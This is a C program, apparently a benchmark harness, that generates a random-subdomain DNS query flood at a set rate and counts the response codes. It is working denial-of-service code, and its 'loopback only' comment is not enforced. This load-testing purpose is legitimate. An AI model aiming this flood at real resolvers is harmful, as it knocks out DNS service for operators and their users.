/* W8 flood: an open-loop random-subdomain flood over UDP, as an attacker sends it.
 * usage: flood SRC_ADDR DST_ADDR PORT ZONE RATE SECONDS SEED
 * Sends RATE queries per second for SECONDS from SRC_ADDR (any port) to DST_ADDR:PORT, each for
 * "nx-<16 hex digits>.ZONE A" with RD=1 and no EDNS; the label is a SplitMix64 of SEED and a
 * counter, so no name repeats (every query misses every cache). It never waits for answers
 * (dnsperf's closed loop would stall on drops): it reads whatever comes back while sending and for
 * one second after, then prints one line:
 *   sent=N answered=N noerror=N servfail=N nxdomain=N refused=N other=N tc=N
 * (tc = answers with TC=1, counted in their rcode too; not answered = sent - answered). Loopback only. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#define N 64
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
static uint64_t mix(uint64_t x) {
    x += 0x9e3779b97f4a7c15ULL; x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
    x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL; return x ^ (x >> 31);
}
static uint64_t answered, rc[16], tc;
static void drain(int fd) {
    static char buf[N][512]; static struct iovec iov[N]; static struct mmsghdr m[N];
    for (;;) {
        for (int i = 0; i < N; i++) {
            iov[i] = (struct iovec){ buf[i], sizeof buf[i] };
            m[i].msg_hdr = (struct msghdr){ .msg_iov = &iov[i], .msg_iovlen = 1 };
        }
        int n = recvmmsg(fd, m, N, MSG_DONTWAIT, NULL);
        if (n <= 0) return;
        for (int i = 0; i < n; i++) {
            if (m[i].msg_len < 12 || !(buf[i][2] & 0x80)) continue;
            answered++; rc[buf[i][3] & 0x0f]++;
            if (buf[i][2] & 0x02) tc++;
        }
    }
}
int main(int argc, char **argv) {
    if (argc != 8) { fprintf(stderr, "usage: %s SRC_ADDR DST_ADDR PORT ZONE RATE SECONDS SEED\n", argv[0]); return 2; }
    const char *zone = argv[4];
    double rate = atof(argv[5]), secs = atof(argv[6]);
    uint64_t seed = strtoull(argv[7], NULL, 10);
    if (rate <= 0 || secs <= 0 || strlen(zone) > 200) { fprintf(stderr, "bad RATE, SECONDS or ZONE\n"); return 2; }
    /* the zone in wire form */
    unsigned char qz[256]; size_t qzlen = 0;
    for (const char *p = zone; *p;) {
        const char *dot = strchr(p, '.'); size_t l = dot ? (size_t)(dot - p) : strlen(p);
        if (l == 0 || l > 63) { fprintf(stderr, "bad ZONE\n"); return 2; }
        qz[qzlen++] = (unsigned char)l; memcpy(qz + qzlen, p, l); qzlen += l;
        p += l; if (*p == '.') p++;
    }
    qz[qzlen++] = 0;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in src = { .sin_family = AF_INET }, dst = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[3])) };
    int big = 8 << 20;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
    if (fd < 0 || inet_pton(AF_INET, argv[1], &src.sin_addr) != 1 || inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1 ||
        bind(fd, (void *)&src, sizeof src) || connect(fd, (void *)&dst, sizeof dst)) { perror("flood: socket"); return 1; }
    static unsigned char pkt[N][300]; static struct iovec iov[N]; static struct mmsghdr m[N];
    uint64_t sent = 0, counter = 0;
    double start = now(), end = start + secs;
    for (;;) {
        double t = now();
        if (t >= end) break;
        uint64_t due = (uint64_t)((t - start) * rate);
        int k = 0;
        while (sent + k < due && k < N) {
            uint64_t r = mix(seed * 0x100000001b3ULL + counter++);
            unsigned char *q = pkt[k];
            q[0] = (unsigned char)(counter >> 8); q[1] = (unsigned char)counter;
            q[2] = 0x01; q[3] = 0;                                  /* RD */
            q[4] = 0; q[5] = 1; memset(q + 6, 0, 6);                /* QDCOUNT 1 */
            q[12] = 19; memcpy(q + 13, "nx-", 3);
            snprintf((char *)q + 16, 17, "%016llx", (unsigned long long)r);
            memcpy(q + 32, qz, qzlen);
            size_t len = 32 + qzlen;
            q[len++] = 0; q[len++] = 1; q[len++] = 0; q[len++] = 1; /* A IN */
            iov[k] = (struct iovec){ q, len };
            m[k].msg_hdr = (struct msghdr){ .msg_iov = &iov[k], .msg_iovlen = 1 };
            k++;
        }
        if (k > 0) {
            int s = sendmmsg(fd, m, k, 0);
            if (s > 0) sent += s;
            else counter -= k;
        }
        drain(fd);
        if (k < N) { struct pollfd p = { fd, POLLIN, 0 }; poll(&p, 1, 1); }
    }
    double stop = now() + 1.0;
    while (now() < stop) { drain(fd); struct pollfd p = { fd, POLLIN, 0 }; poll(&p, 1, 50); }
    drain(fd);
    printf("sent=%llu answered=%llu noerror=%llu servfail=%llu nxdomain=%llu refused=%llu other=%llu tc=%llu\n",
           (unsigned long long)sent, (unsigned long long)answered, (unsigned long long)rc[0], (unsigned long long)rc[2],
           (unsigned long long)rc[3], (unsigned long long)rc[5],
           (unsigned long long)(answered - rc[0] - rc[2] - rc[3] - rc[5]), (unsigned long long)tc);
    return 0;
}
